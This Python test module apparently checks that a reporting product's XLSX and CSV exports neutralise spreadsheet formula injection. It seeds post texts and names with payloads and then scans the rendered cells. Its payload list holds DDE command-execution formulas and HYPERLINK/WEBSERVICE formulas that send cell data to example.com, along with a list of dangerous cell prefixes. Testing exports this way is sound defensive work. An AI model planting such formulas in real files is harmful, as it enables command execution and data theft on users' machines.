"""Texts that spreadsheet programs may run as formulas, as the texts of posts and names."""

import csv
import io
from typing import Final

import openpyxl

from harness.report_oracle.database import ReportDatabase
from harness.report_oracle.worlds import plan_month
from roost.insights.reports.content.build import build_document
from roost.insights.reports.document import Brand
from roost.insights.reports.forms.csv import render_csvs
from roost.insights.reports.forms.xlsx import render_xlsx
from roost.insights.reports.words import load_words

_STARTS: Final = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u3000=", "\uff1d")
_BODIES: Final = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.com/?"&A1,"x")',
    "1+1",
    "SUM(1+9)*cmd|' /C calc'!A0",
    'WEBSERVICE("http://example.com/"&A1)',
)
PAYLOADS: Final = tuple(start + body for start in _STARTS for body in _BODIES)
#: A CSV cell that begins with one of these may be run. Numbers may begin with a minus sign.
_DANGEROUS: Final = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


async def find_injections(database: ReportDatabase) -> tuple[list[str], int]:
    """Return the cells that may run as formulas, and how many payloads the workbook shows."""
    planned = plan_month(2 * len(PAYLOADS))
    stored = database.store(planned)
    ids = database.admin.execute(
        "SELECT id FROM parts WHERE integration_id = ANY(%s) AND position = 1"
        " AND state = 'sent' AND sent_at >= %s ORDER BY sent_at DESC",
        [list(stored.accounts), planned.first],
    ).fetchall()
    for number, (part_id,) in enumerate(ids):
        payload = PAYLOADS[number % len(PAYLOADS)]
        database.admin.execute("UPDATE parts SET text = %s WHERE id = %s", [payload, part_id])
    database.admin.execute(
        "UPDATE integrations SET metadata = metadata || jsonb_build_object('name', %s::text)"
        " WHERE tenant_id = %s",
        [PAYLOADS[0], stored.tenant],
    )
    database.admin.commit()
    report = await database.make_report(planned, stored)
    brand = Brand(title=PAYLOADS[1], cover_note=PAYLOADS[2])
    document = build_document(report, load_words("en"), brand=brand)
    book = openpyxl.load_workbook(io.BytesIO(render_xlsx(document)))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    found = [f"{cell.coordinate}: {cell.value!r}" for cell in cells if cell.data_type == "f"]
    shown = " ".join(str(cell.value) for cell in cells)
    for name, content in render_csvs(document).items():
        for row in csv.reader(io.StringIO(content)):
            found += [f"{name}.csv: {cell!r}" for cell in row if _is_dangerous(cell)]
    return found, sum(body in shown for body in _BODIES)


def _is_dangerous(cell: str) -> bool:
    if not cell.lstrip(" \u3000").startswith(_DANGEROUS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False
